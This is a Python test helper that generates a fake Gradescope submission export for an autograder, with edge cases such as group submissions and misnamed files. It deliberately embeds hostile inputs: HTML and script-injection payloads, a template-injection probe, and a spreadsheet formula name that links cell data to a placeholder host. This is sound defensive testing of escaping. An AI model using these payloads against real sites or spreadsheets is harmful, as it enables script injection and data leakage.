"""A generated Gradescope "Export Submissions" for tests: no real student, realistic layout.

The layout follows what Gradescope gives (see autograder/staff/inputs.py): a top folder
``assignment_<id>_export/`` with ``submission_metadata.yml`` (Ruby-style keys ``:submitters:``,
``:name:``, ``:sid:``, ``:email:``, ``:created_at:``, ``:score:``, ``:status:``) and one
``submission_<id>/`` folder per submission. The class mixes what a real one has: group
submissions, misnamed files (``A2_final.py``), extra files, a folder with no Python file, a
folder the metadata does not name, stray files at the top, and hostile short answers.

Distinct files are few on purpose (most submissions share a file), so grading the whole export
costs a handful of sandbox runs.
"""

from __future__ import annotations

import json
import random
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

HOSTILE = ('<script>document.title="pwned"</script><img src=x onerror="alert(1)"> VQ-VAE '
           'quantises the latent to the nearest codebook vector; a VAE latent is a continuous '
           'Gaussian sample. </textarea><b>bold</b> {{ 7*7 }}')
FLAGGED_Q3 = ("The discriminator generates images from random noise and the generator "
              "classifies them as real or fake; the generator maximises its accuracy at catching "
              "the fakes. Training ends when the fakes are indistinguishable from real data.")
PARTIAL_Q2 = "VQ-VAE uses a codebook"


@dataclass
class Export:
    """What was generated, for tests to check against."""

    root: Path
    """The top folder (``assignment_<id>_export``)."""
    zip_path: Path | None
    submissions: dict[str, list[dict]] = field(default_factory=dict)
    """submission folder -> its submitters as written to the metadata."""
    kinds: dict[str, str] = field(default_factory=dict)
    """submission folder -> which source it holds."""
    misnamed: list[str] = field(default_factory=list)
    no_python: list[str] = field(default_factory=list)
    unlisted: list[str] = field(default_factory=list)
    groups: list[str] = field(default_factory=list)

    @property
    def students(self) -> int:
        """People named on graded submissions."""
        return sum(len(v) for k, v in self.submissions.items() if k not in self.no_python)


def sources(example_source) -> dict[str, bytes]:
    """The distinct files of the class, built from the manifest's examples."""
    reference = example_source("reference").decode()

    def with_answer(name: str, text: str) -> bytes:
        return (reference + f"\n{name} = {text!r}\n").encode()

    # A known mistake from the misconception catalogue: the receptive field without dilation.
    no_dilation = reference + ("\n\ndef receptive_field(layers):\n    r, jump = 1, 1\n"
                               "    for layer in layers:\n        r += (layer[0] - 1) * jump\n"
                               "        jump *= layer[1]\n    return r\n")
    return {
        "reference": reference.encode(),
        "rf_no_dilation": no_dilation.encode(),
        "stub": example_source("stub"),
        "q1_iv_wrong": example_source("q1_iv_wrong"),
        "partial_q2": with_answer("Q2", PARTIAL_Q2),
        "flagged_q3": with_answer("Q3", FLAGGED_Q3),
        "hostile_q2": with_answer("Q2", HOSTILE),
    }


HOSTILE_NAME = "Zoë <img src=x onerror=alert(3)>"
"""Names come from the metadata: hostile text too."""
FORMULA_NAME = '=HYPERLINK("http://example.invalid/?"&A1,"Student 006")'
"""A name a spreadsheet would run as a formula."""


def _person(i: int) -> dict:
    name = {5: HOSTILE_NAME, 6: FORMULA_NAME}.get(i, f"Student {i:03d}")
    return {":name": name, ":sid": f"U26{i:05d}", ":email": f"s{i:03d}@students.example.edu"}


def _yaml_person(person: dict, indent: str) -> str:
    return (f"{indent}- :name: {json.dumps(person[':name'])}\n"
            f"{indent}  :sid: '{person[':sid']}'\n"
            f"{indent}  :email: {person[':email']}\n")


def make_export(folder: Path, example_source, count: int = 54, seed: int = 6126,
                as_zip: bool = True) -> Export:
    """Write an export of ``count`` submission folders under ``folder``; zip it if asked."""
    rng = random.Random(seed)
    files = sources(example_source)
    kinds = ["reference"] * 16 + ["rf_no_dilation"] * 4 + ["q1_iv_wrong"] * 12 + \
        ["stub"] * 6 + ["partial_q2"] * 8 + ["flagged_q3"] * 4 + ["hostile_q2"] * 4
    root = folder / "assignment_4242_export"
    root.mkdir(parents=True)
    export = Export(root, None)
    metadata = []
    person = 1
    for index in range(count):
        sub = f"submission_{310000 + index * 7}"
        kind = kinds[index % len(kinds)]
        size = 3 if index % 17 == 5 else 2 if index % 13 == 3 else 1
        people = [_person(person + k) for k in range(size)]
        person += size
        if size > 1:
            export.groups.append(sub)
        target = root / sub
        target.mkdir()
        name = "a2.py"
        if index % 19 == 7:
            name = "A2_final.py"
            export.misnamed.append(sub)
        if index == 11:
            (target / "report.pdf").write_bytes(b"%PDF-1.4 not a submission")
            export.no_python.append(sub)
        else:
            (target / name).write_bytes(files[kind])
            export.kinds[sub] = kind
        if index % 9 == 2:
            (target / "notes.txt").write_text("my notes\n")
        if index % 23 == 4:
            (target / "helper.py").write_text("X = 1\n")  # beside a2.py: a2.py wins
        if index == count - 1:
            export.unlisted.append(sub)
            continue
        export.submissions[sub] = people
        clock = f"{rng.randrange(24):02d}:{rng.randrange(60):02d}:{rng.randrange(60):02d}"
        stamp = f"2026-11-{20 + rng.randrange(8):02d} {clock}.{rng.randrange(10**6):06d}000 +08:00"
        metadata.append(
            f"{sub}:\n  :submitters:\n" + "".join(_yaml_person(p, "  ") for p in people)
            + f"  :created_at: {stamp}\n  :score: {rng.choice([0.0, 4.0, 12.0])}\n"
            "  :status: processed\n  :results:\n    score: 0.0\n    tests: []\n"
            "  :history: []\n")
    (root / "submission_metadata.yml").write_text("".join(metadata))
    (root / ".DS_Store").write_bytes(b"\0\0\0\1Bud1")
    (root / "README.txt").write_text("exported from Gradescope\n")
    if as_zip:
        export.zip_path = folder / "assignment_4242_export.zip"
        with zipfile.ZipFile(export.zip_path, "w", zipfile.ZIP_DEFLATED) as zf:
            for path in sorted(root.rglob("*")):
                if path.is_file():
                    zf.write(path, path.relative_to(folder).as_posix())
    return export


def main(argv: list[str] | None = None) -> int:
    """``python tests/gradescope_export.py OUT``: write a fake export to try the staff commands."""
    import shutil
    import sys

    root = Path(__file__).resolve().parents[1]
    sys.path.insert(0, str(root))
    from autograder.manifest import load_manifest

    args = sys.argv[1:] if argv is None else argv
    out = Path(args[0] if args else "dist/class")
    shutil.rmtree(out, ignore_errors=True)
    examples = {e.name: e for e in load_manifest(root / "solutions" / "manifest.yaml").examples}
    export = make_export(out, lambda name: examples[name].source())
    print(f"wrote {export.zip_path} ({len(export.kinds) + len(export.no_python)} submission "
          "folders, generated: no real student)")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
